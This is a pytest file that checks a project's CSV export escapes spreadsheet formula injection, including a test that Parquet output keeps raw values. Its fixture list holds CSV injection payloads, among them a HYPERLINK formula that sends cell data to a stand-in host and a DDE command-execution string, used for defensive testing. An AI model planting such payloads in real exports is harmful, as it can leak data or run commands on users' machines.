"""Spreadsheet-safe exports: a CSV that engage writes never carries a cell a spreadsheet would run as a
formula (OWASP "CSV Injection": cells starting with = + - @, tab or carriage return get a leading quote).
Before issue 22 `python -m engage.batch drafts.csv scores.csv` wrote the drafts' `account` cell raw."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from engage.scoring.table import OUTPUT_COLUMNS, write_scores

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def scores() -> pd.DataFrame:
    rows = [{"row": i + 1, "account": account, "likes_expected": -0.5 if i == 0 else 12.0, "flags": "",
             "error": account} for i, account in enumerate([*HOSTILE, "anna.bakes", "a=b"])]
    return pd.DataFrame(rows).reindex(columns=OUTPUT_COLUMNS)


def test_every_text_cell_that_starts_a_formula_is_written_as_text(tmp_path: Path) -> None:
    written = write_scores(scores(), tmp_path / "scores.csv")
    with written.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["account"] for r in rows] == ["'" + h for h in HOSTILE] + ["anna.bakes", "a=b"]
    assert [r["error"] for r in rows] == ["'" + h for h in HOSTILE] + ["anna.bakes", "a=b"]
    for row in rows:  # no text cell starts a formula (a negative number is a number)
        assert not any(row[c].startswith(("=", "+", "-", "@", "\t",
                                          "\r")) for c in ("account", "flags", "error"))


def test_numbers_stay_numbers_in_the_csv(tmp_path: Path) -> None:
    written = write_scores(scores(), tmp_path / "scores.csv")
    frame = pd.read_csv(written)
    assert frame["likes_expected"].tolist()[:2] == [-0.5, 12.0]


def test_parquet_keeps_the_values_as_they_are(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    written = write_scores(scores(), tmp_path / "scores.parquet")
    assert pd.read_parquet(written)["account"].tolist() == [*HOSTILE, "anna.bakes", "a=b"]
